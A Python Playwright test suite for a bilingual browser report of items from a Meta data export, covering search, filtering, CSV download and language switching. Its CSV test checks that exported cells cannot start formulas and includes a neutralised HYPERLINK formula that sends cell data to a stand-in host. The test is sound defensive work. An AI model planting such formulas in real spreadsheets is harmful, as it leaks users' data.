"""The list of all items in a browser: searching, filtering, ordering, opening, keeping the address, saving, two languages."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.browser.conftest import Visit

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

ONLY_ENGLISH = pytest.mark.parametrize("report", ["en"], indirect=True)


def rows(page: Page) -> list[str]:
    """The texts of the rows in view."""
    return page.locator(".row-text").all_text_contents()


def search(page: Page, text: str) -> None:
    page.fill("#seek", text)
    page.wait_for_function(
        "wanted => new URLSearchParams(location.hash.split('?')[1] || '').get('q') === (wanted || null)", arg=text.strip()
    )


@ONLY_ENGLISH
def test_all_items_are_there_and_only_some_are_drawn(visit: Visit) -> None:
    assert visit.page.inner_text(".hits") == "55 items"
    assert visit.page.locator(".row").count() < 40
    assert visit.page.locator(".row").first.get_attribute("aria-setsize") == "55"


@ONLY_ENGLISH
@pytest.mark.parametrize(
    ("query", "found"),
    [
        ("grandmother’s RECIPE", ["That is my grandmother’s recipe, to the gram!"]),
        ("skanor", ["The whole family in one picture, for once."]),  # a place, without its accent
        ("okafor swim", ["First swim of the year. The water was eleven degrees and so was my courage."]),  # a person and a word
        ("jardins partages", ["Free tomato seedlings, the round kind."]),
        ("no such words at all", []),
    ],
)
def test_search_finds_words_names_and_places_without_accents(visit: Visit, query: str, found: list[str]) -> None:
    search(visit.page, query)
    assert rows(visit.page) == found
    assert visit.page.inner_text(".hits") == f"{len(found)} of 55 items"
    assert visit.page.locator(".rows").is_visible() == bool(found)


@ONLY_ENGLISH
def test_a_longer_query_narrows_and_a_shorter_one_widens(visit: Visit) -> None:
    counts = []
    for query in ("t", "th", "the ", "the w", "the", ""):
        search(visit.page, query)
        counts.append(int(visit.page.inner_text(".hits").split()[0]))
    assert counts[0] >= counts[1] >= counts[2] == counts[4] >= counts[3] > 0
    assert counts[5] == 55


@ONLY_ENGLISH
def test_filters_and_order(visit: Visit) -> None:
    page = visit.page
    page.select_option("#filter-kind", "stories")
    assert page.inner_text(".hits") == "2 of 55 items"
    page.select_option("#filter-verdict", "in")
    assert rows(page) == ["Longest day"]
    page.click(".clear")
    page.select_option("#filter-person", "Ines Vautrin")
    assert page.inner_text(".hits").startswith("5 of")
    page.click(".clear")
    page.select_option("#filter-year", "2012")
    page.check("#filter-picture")
    assert rows(page) == []
    page.click(".clear")
    page.select_option("#filter-account", "instagram:rosa_on_the_canal")
    page.select_option("#filter-sort", "old")
    days = page.locator(".row-day").all_text_contents()
    assert days[0] == "24 December 2018" and days[-1] == "undated"
    page.select_option("#filter-flag", "health")
    assert "flag=health" in page.url


@ONLY_ENGLISH
def test_the_address_opens_what_it_names(visit: Visit, report: Path) -> None:
    page = visit.page
    page.goto(f"{report.as_uri()}#items?kind=comments&q=congratulations&sort=old")
    page.reload()
    page.wait_for_selector("html[data-ready]")
    assert rows(page) == ["Congratulations to you both!"] * 3
    assert page.locator(".row-day").first.text_content() == "20 January 2011"
    page.goto(f"{report.as_uri()}#item-in-0000")
    page.reload()
    page.wait_for_selector("dialog[open]")
    page.keyboard.press("Escape")
    page.wait_for_selector("dialog[open]", state="detached")
    assert page.url.endswith("#items")


@ONLY_ENGLISH
def test_keys_are_enough(visit: Visit) -> None:
    page = visit.page
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.id") == "seek"
    page.keyboard.type("bread")
    page.wait_for_url("**#items?q=bread")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowDown")
    assert page.locator('.row[aria-selected="true"]').get_attribute("id") == page.get_attribute(".rows", "aria-activedescendant")
    page.keyboard.press("Enter")
    dialog = page.locator("dialog[open]")
    assert "Bread, third attempt." in dialog.inner_text()
    page.keyboard.press("ArrowLeft")
    assert "Best rye bread north of the river." in dialog.inner_text()
    page.keyboard.press("Escape")
    assert page.locator("dialog[open]").count() == 0
    assert page.evaluate("document.activeElement.className") == "rows"


@ONLY_ENGLISH
def test_an_item_says_everything_about_itself(visit: Visit) -> None:
    page = visit.page
    search(page, "The doctor says")
    page.click(".row")
    dialog = page.locator("dialog[open]")
    assert dialog.locator("mark").all_text_contents() == ["doctor"]
    said = dialog.inner_text()
    for part in (
        "possibly covered",
        "11 September 2017",
        "Rosa Lindqvist",
        "The Facebook export does not say",
        "record 14",
        "part1.zip",
    ):
        assert part in said, part
    dialog.locator('a[href="#rule-facebook_post"]').click()
    assert page.locator("dialog[open]").count() == 0
    assert page.url.endswith("#rule-facebook_post")


@ONLY_ENGLISH
def test_the_choice_is_saved_as_csv_without_formulas(visit: Visit) -> None:
    page = visit.page
    page.select_option("#filter-kind", "comments")
    with page.expect_download() as download:
        page.click(".save")
    text = Path(str(download.value.path())).read_text("utf-8-sig")
    table = list(csv.DictReader(io.StringIO(text, newline="")))
    assert download.value.suggested_filename == "meta-export-items.csv"
    assert len(table) == 6
    assert {row["Platform"] for row in table} == {"Facebook", "Instagram"}
    assert all(row["Why"] and row["File"].endswith(".json") and row["Date"].endswith("Z") for row in table)
    page.click(".clear")
    with page.expect_download() as download:
        page.click(".save")
    whole = Path(str(download.value.path())).read_text("utf-8-sig")
    table = list(csv.DictReader(io.StringIO(whole, newline="")))
    assert len(table) == 55
    assert not [cell for row in table for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    assert "'=HYPERLINK('https://example.org/?'&A1)" in [row["Text"] for row in table]


def test_the_language_changes_and_the_choice_stays(visit: Visit) -> None:
    page = visit.page
    assert page.locator(".speak input:checked").get_attribute("value") == page.get_attribute("html", "lang")
    search(page, "bread")
    for lang, title, hits, kind in (("fr", "Vos données et l’entraînement de l’IA de Meta", "2 sur 55 contenus", "avis"),
                                    ("en", "Your data and Meta’s AI training", "2 of 55 items", "review")):  # fmt: skip
        page.check(f"#speak-{lang}")
        assert page.title() == title
        assert ("contenus" in page.inner_text("h1")) is (lang == "fr")
        assert page.inner_text(".hits") == hits
        assert page.locator(".row-kind").first.text_content() == kind
        assert page.input_value("#seek") == "bread"
        other = "en" if lang == "fr" else "fr"
        shown = page.locator(f"main [lang={other}]").evaluate_all("all => all.filter(one => one.checkVisibility()).length")
        assert shown == 0


def test_without_a_script_it_is_said(browser: Browser, report: Path) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(report.as_uri())
    assert page.locator(".explorer").is_hidden()
    assert "JavaScript" in page.inner_text("#items")
    first = str(page.get_attribute("html", "lang"))
    other = "en" if first == "fr" else "fr"
    headline = page.inner_text("h1")
    page.check(f"#speak-{other}")  # the language changes all the same
    assert page.inner_text("h1") != headline
    context.close()
